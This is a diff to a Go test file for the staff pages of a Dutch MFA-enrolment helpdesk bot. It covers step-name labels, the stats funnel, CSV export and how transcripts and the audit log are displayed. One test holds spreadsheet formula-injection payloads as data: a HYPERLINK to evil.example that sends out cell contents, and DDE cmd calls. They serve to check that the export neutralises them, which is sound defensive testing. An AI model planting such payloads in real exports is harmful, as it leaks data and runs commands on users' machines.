@@ -3,19 +3,23 @@ package staff
 import (
 	"context"
 	"encoding/csv"
+	"html"
 	"net/http"
 	"net/url"
+	"regexp"
 	"strconv"
 	"strings"
 	"testing"
 	"time"
 
+	"mfabot/dialogs"
+	"mfabot/dialogs/texts"
 	"mfabot/handoff"
 	"mfabot/store"
 )
 
 func TestCSRFEnforced(t *testing.T) {
-	e := newDevEnv(t, nil, nil)
+	e := newDevEnv(t, nil)
 	id := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries"})
 	c := e.devSignIn(t, "Ine")
 	base := e.srv.URL + "/staff/escalations/" + strconv.FormatInt(id, 10)
@@ -77,8 +81,8 @@ func TestCSRFEnforced(t *testing.T) {
 }
 
 func TestQueueDetailAndActions(t *testing.T) {
-	e := newDevEnv(t, []string{"step1", "step2"}, map[string]string{"step2": "Stap 2: aanmelden"})
-	older := addEscalation(t, e.st, store.Escalation{StudentName: "Bram Jansen", Situation: "move_phone", FailedStep: "step2",
+	e := newDevEnv(t, []string{"step01", "step02"})
+	older := addEscalation(t, e.st, store.Escalation{StudentName: "Bram Jansen", Situation: "move_phone", FailedStep: "step02",
 		Reason: handoff.ReasonTwoFailures, CreatedAt: time.Now().Add(-2 * time.Hour), RepeatContact: true})
 	sec := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries", StudentUPN: "sanne@student.example",
 		StudentObjectID: "oid-sanne", Situation: "suspicious_prompt", Reason: handoff.ReasonSuspicious, Security: true,
@@ -95,7 +99,7 @@ func TestQueueDetailAndActions(t *testing.T) {
 	if strings.Contains(body, "Opgeloste Olaf") {
 		t.Error("the default queue lists a resolved escalation")
 	}
-	for _, want := range []string{`<span class="badge security">Beveiliging</span>`, "Herhaald contact", "Stap 2: aanmelden",
+	for _, want := range []string{`<span class="badge security">Beveiliging</span>`, "Herhaald contact", "Stap 2: Log in",
 		"Stap twee keer mislukt", "2 u 00 min", `data-poll="/staff/queue/fragment?status=active"`} {
 		if !strings.Contains(body, want) {
 			t.Errorf("queue lacks %q", want)
@@ -175,7 +179,7 @@ func TestQueueDetailAndActions(t *testing.T) {
 }
 
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
-	e := newDevEnv(t, nil, nil)
+	e := newDevEnv(t, nil)
 	id := addEscalation(t, e.st, store.Escalation{
 		StudentName:     `=HYPERLINK("http://evil.example/?"&A1,"klik")`,
 		StudentUPN:      "+31612345678@student.example",
@@ -226,15 +230,19 @@ func TestCSVExportNeutralisesFormulas(t *testing.T) {
 		t.Fatal("exported escalation not found")
 	}
 	for field, want := range map[string]string{
-		"student_naam":      `'=HYPERLINK("http://evil.example/?"&A1,"klik")`,
-		"student_upn":       "'+31612345678@student.example",
-		"student_object_id": "'@SUM(1+1)*cmd|' /C calc'!A0",
-		"mislukte_stap":     "'-2+3",
-		"reden":             "'\t=1+1",
-		"methoden":          "Mobiel, \"privé\"; Authenticator\nmet nieuwe regel",
-		"notitie":           "'=cmd|' /C notepad'!A1",
-		"situatie":          "lost_phone",
-		"status":            "resolved",
+		"student_naam":       `'=HYPERLINK("http://evil.example/?"&A1,"klik")`,
+		"student_upn":        "'+31612345678@student.example",
+		"student_object_id":  "'@SUM(1+1)*cmd|' /C calc'!A0",
+		"mislukte_stap":      "'-2+3",
+		"reden":              "'\t=1+1",
+		"methoden":           "Mobiel, \"privé\"; Authenticator\nmet nieuwe regel",
+		"notitie":            "'=cmd|' /C notepad'!A1",
+		"situatie":           "lost_phone",
+		"situatie_naam":      "Telefoon kwijt of kapot",
+		"mislukte_stap_naam": "'-2+3",
+		"reden_naam":         "'\t=1+1",
+		"status":             "resolved",
+		"status_naam":        "Opgelost",
 	} {
 		if got := row[col[field]]; got != want {
 			t.Errorf("%s = %q, want %q", field, got, want)
@@ -273,7 +281,7 @@ func TestSafeNext(t *testing.T) {
 }
 
 func TestDetailVersionEndpoint(t *testing.T) {
-	e := newDevEnv(t, nil, nil)
+	e := newDevEnv(t, nil)
 	id := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries"})
 	c := e.devSignIn(t, "Ine")
 	u := e.srv.URL + "/staff/escalations/" + strconv.FormatInt(id, 10) + "/version"
@@ -302,9 +310,9 @@ func TestNeutralise(t *testing.T) {
 }
 
 func TestStatisticsPage(t *testing.T) {
-	steps := []string{"situation", "step1", "step2", "step10"}
-	labels := map[string]string{"step1": "Stap 1: aka.ms/mfasetup", "step2": "Stap 2: aanmelden", "step10": "Stap 10: code invoeren"}
-	e := newDevEnv(t, steps, labels)
+	// "situation" is a step the flow does not know (it stays visible as it is).
+	steps := []string{"situation", "step01", "step02", "step10"}
+	e := newDevEnv(t, steps)
 	ctx := context.Background()
 	now := time.Now().UTC()
 	record := func(session, step, event string) {
@@ -319,8 +327,8 @@ func TestStatisticsPage(t *testing.T) {
 		}
 		// step10 is recorded first to check that the page orders by flow.
 		record(sid, "step10", "shown")
-		record(sid, "step1", "shown")
-		record(sid, "step2", "shown")
+		record(sid, "step01", "shown")
+		record(sid, "step02", "shown")
 		if err := e.st.EndSession(ctx, sid, outcome, now.Add(-30*time.Minute)); err != nil {
 			t.Fatal(err)
 		}
@@ -328,7 +336,7 @@ func TestStatisticsPage(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	record("s2", "step2", "failed")
+	record("s2", "step02", "failed")
 	record("s9", "old_step", "shown")
 
 	c := e.devSignIn(t, "Ine")
@@ -338,12 +346,12 @@ func TestStatisticsPage(t *testing.T) {
 	}
 	// The table is in flow order (the drop-off chart above it is not).
 	table := body[strings.Index(body, `<table class="funnel">`):]
-	i1, i2, i10, iOld := strings.Index(table, "Stap 1: aka.ms"), strings.Index(table, "Stap 2: aanmelden"), strings.Index(table, "Stap 10: code"), strings.Index(table, "old_step")
+	i1, i2, i10, iOld := strings.Index(table, "Stap 1: Open de website"), strings.Index(table, "Stap 2: Log in"), strings.Index(table, "Stap 10: Rond het toevoegen af"), strings.Index(table, "old_step")
 	if i1 < 0 || i2 < 0 || i10 < 0 || iOld < 0 || !(i1 < i2 && i2 < i10 && i10 < iOld) {
 		t.Errorf("funnel not in flow order: %d %d %d %d", i1, i2, i10, iOld)
 	}
 	for _, want := range []string{
-		`<th scope="row">Stap 2: aanmelden</th><td class="num">3</td><td class="num">1</td><td class="num">33%</td>`,
+		`<th scope="row">Stap 2: Log in</th><td class="num">3</td><td class="num">1</td><td class="num">33%</td>`,
 		`<th scope="row">situation</th><td class="num">0</td>`,
 		`width="100"`, "Opgelost (gecontroleerd)", "Afgebroken", now.Add(-30 * time.Minute).Format("2006-01-02"),
 		`<th scope="row">5 van 5</th><td class="num">1</td>`, "4.0 / 5",
@@ -351,5 +359,102 @@ func TestStatisticsPage(t *testing.T) {
 		if !strings.Contains(body, want) {
 			t.Errorf("stats page lacks %q", want)
 		}
+	}
+}
+
+// The funnel of the real flow names every step as staff name it (the
+// staff card's names): the table, the drop-off chart and the CSV, whose
+// last column keeps the id.
+func TestFunnelShowsStepNamesNotIDs(t *testing.T) {
+	steps := dialogs.StepOrder()
+	e := newDevEnv(t, steps)
+	ctx := context.Background()
+	at := time.Now().UTC().Add(-time.Hour)
+	for i, step := range steps {
+		conv := "conv-" + strconv.Itoa(i)
+		for _, ev := range []string{"shown", "failed"} {
+			if err := e.st.RecordStepEvent(ctx, store.StepEvent{ConversationID: conv, UserID: "u-" + conv, Step: step, Event: ev, At: at}); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	c := e.devSignIn(t, "Ine")
+	_, body := get(t, c, e.srv.URL+"/staff/stats")
+	table := body[strings.Index(body, `<table class="funnel">`):]
+	table = table[:strings.Index(table, "</table>")]
+	rows := regexp.MustCompile(`<th scope="row">([^<]*)</th>`).FindAllStringSubmatch(table, -1)
+	if len(rows) != len(steps) {
+		t.Fatalf("funnel has %d rows, want %d (one per step)", len(rows), len(steps))
+	}
+	for i, id := range steps {
+		want := html.EscapeString(texts.Step("nl", id))
+		if got := rows[i][1]; got != want || got == id {
+			t.Errorf("funnel row %d = %q, want %q (step %s)", i, got, want, id)
+		}
+	}
+	for _, want := range []string{">Stap 7: Voeg je schoolaccount toe<", ">Nieuwe telefoon niet gevonden bij de controle<",
+		">Controle: oude telefoon verwijderd<", ">Doorgezet naar de servicedesk<", ">Gestopt<", ">Begin: situatie kiezen<"} {
+		if !strings.Contains(body, want) {
+			t.Errorf("stats page lacks %q", want)
+		}
+	}
+	// No id is shown as text anywhere on the page (the chart included).
+	for _, id := range steps {
+		if strings.Contains(body, ">"+id+"<") || strings.Contains(body, "Meeste uitval: "+id+" ") {
+			t.Errorf("stats page shows the id %q", id)
+		}
+	}
+
+	_, csvBody := get(t, c, e.srv.URL+"/staff/stats.csv?days=7")
+	recs, err := csv.NewReader(strings.NewReader(csvBody[strings.Index(csvBody, "stap,"):])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != len(steps)+1 || strings.Join(recs[0], ",") != "stap,bereikt,mislukt,uitval_procent,stap_id" {
+		t.Fatalf("csv funnel %v", recs)
+	}
+	for i, id := range steps {
+		if rec := recs[i+1]; rec[0] != texts.Step("nl", id) || rec[4] != id {
+			t.Errorf("csv row %v, want the name %q and the id %q", rec, texts.Step("nl", id), id)
+		}
+	}
+}
+
+// A click in the transcript and the audit log's record of the hand-off
+// are shown with the names staff read, not by the ids they record.
+func TestTranscriptAndAuditShowNames(t *testing.T) {
+	e := newDevEnv(t, nil)
+	id := addEscalation(t, e.st, store.Escalation{StudentName: "Bram Jansen", Situation: "move_phone", FailedStep: "step09",
+		Transcript: []store.TranscriptLine{
+			{Role: "student", Text: "[move_phone @ welcome]", At: time.Now()},
+			{Role: "student", Text: "[failed @ step09]", At: time.Now()},
+			{Role: "student", Text: "[rate @ done]", At: time.Now()},
+			{Role: "student", Text: "[failed @ step09] en toen?", At: time.Now()},
+		}})
+	for _, a := range []store.AuditEntry{
+		{At: time.Now(), Actor: "mfabot", Action: "create", EscalationID: id, Detail: "reason=two_failures security=false repeat=true"},
+		{At: time.Now(), Actor: "mfabot", Action: "security", EscalationID: id, Detail: "marked as security: suspicious_prompt"},
+	} {
+		if err := e.st.AppendAudit(context.Background(), a); err != nil {
+			t.Fatal(err)
+		}
+	}
+	c := e.devSignIn(t, "Ine")
+	_, body := get(t, c, e.srv.URL+"/staff/escalations/"+strconv.FormatInt(id, 10))
+	for _, want := range []string{
+		"<td>reden: Stap twee keer mislukt; beveiliging: nee; herhaald contact: ja</td>",
+		"<td>als beveiliging gemarkeerd: Verdachte aanmeldverzoeken</td>",
+		"<p>Knop &#39;Overzetten naar een andere telefoon&#39; bij Begin: situatie kiezen</p>",
+		"<p>Knop &#39;Lukt niet&#39; bij Stap 9: Typ het nummer over</p>",
+		"<p>Knop &#39;Cijfer&#39; bij Klaar</p>",
+		"<p>[failed @ step09] en toen?</p>", // what the student typed stays as typed
+		"<dd>Stap 9: Typ het nummer over</dd>",
+	} {
+		if !strings.Contains(body, want) {
+			t.Errorf("detail page lacks %q", want)
+		}
+	}
+	if strings.Contains(body, "<p>[failed @ step09]</p>") {
+		t.Error("the detail page shows a click by its ids")
 	}
 }
